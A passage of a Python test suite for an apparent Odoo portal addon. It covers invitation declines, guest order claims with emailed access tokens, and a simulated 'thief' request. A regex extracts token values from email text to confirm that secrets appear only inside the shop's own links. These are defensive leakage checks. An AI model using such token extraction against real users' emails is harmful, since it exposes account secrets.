        decline(addon, addon.mailbox.wait_for_one(address))
        thief.post("/web/portal/account", {})
        assert not addon.db.users(address)
    assert len(addon.mailbox.invitations(address)) == 1


def accounts_of(shop, order_id):
    """Return the ids of the users of an order's customer."""
    return shop.db.sql(
        "SELECT id FROM res_users WHERE partner_id = %s", customer_of(shop, order_id)
    )


def group_id(shop, name):
    """Return the id of one of Odoo's groups."""
    domain = [("module", "=", "base"), ("name", "=", name)]
    return shop.admin("ir.model.data", "search_read", domain, ["res_id"])[0]["res_id"]


def claim(shop, customer, order_id):
    """Add an order to the account of a customer who has the link of its email."""
    query = "UPDATE sale_order SET access_token = %s WHERE id = %s"
    shop.db.sql(query, email_token(order_id), order_id)
    press_claim(customer, order_id)


def email_token(order_id):
    """Return the token of an order's page that its customer was emailed."""
    return f"emailed-{order_id}"


def press_claim(customer, order_id):
    """Press the button of the order's page that the email has led to."""
    values = {"access_token": email_token(order_id)}
    customer.post(f"/my/orders/{order_id}/claim", values, form="/my/security")


def claimed_order(shop, address, password):
    """Return the id of an order of a guest that is in the account of the address."""
    order_id = quote(shop, address)
    confirm(shop, order_id)
    claim(shop, Visitor(shop.server).log_in(address, password), order_id)
    assert in_accounts(shop, order_id) == [order_id]
    assert order_id in orders_of(shop, address, password)
    return order_id


def decline(shop, mail):
    """Follow an email's link to decline the account, and press the button."""
    [link] = links_in(mail, "/decline")
    submit_forms(Visitor(shop.server), link, "/web/portal/decline")


class EditedTemplate:
    """Add markup to the end of one of the addon's email templates, for a while."""

    def __init__(self, shop, name, markup):
        self.shop, self.markup = shop, markup
        name = f"mail_template_portal_{name}"
        domain = [("model", "=", "mail.template"), ("name", "=", name)]
        [row] = shop.admin("ir.model.data", "search_read", domain, ["res_id"])
        self.template = row["res_id"]
        fields = ["body_html"]
        [row] = shop.admin("mail.template", "read", [self.template], fields)
        self.body = row["body_html"]

    def _write(self, body):
        values = {"body_html": body}
        self.shop.admin("mail.template", "write", [self.template], values)

    def __enter__(self):
        self._write(f"{self.body}{self.markup}")

    def __exit__(self, *exc_info):
        self._write(self.body)


def tokens_in(text):
    """Return what may be a secret of ours in a text."""
    return re.findall(r"token=([\w.~%=-]{20,})", text)


def assert_tokens_are_whole_links(shop, mail):
    """Check that a secret is the whole address of links to the shop, nothing else."""
    page = lxml.html.fromstring(mail.html)
    own, tokens = f"{shop.server.url}/web/portal/", set()
    for link in page.xpath("//a[contains(@href, 'token=')]"):
        href = link.attrib.pop("href")
        assert re.fullmatch(rf"{re.escape(own)}[a-z/]+\?token=[\w.~%=-]+", href), href
        tokens.update(tokens_in(href))
    assert tokens
    rest = lxml.html.tostring(page, encoding="unicode")
    subject = str(mail.message["Subject"])
    assert not [token for token in tokens if token in rest + subject]
    # the plain text has the links' addresses
    for word in re.findall(r"\S*token=\S*", mail.text):
        assert re.match(rf"[\[(<]*{re.escape(own)}", word), word
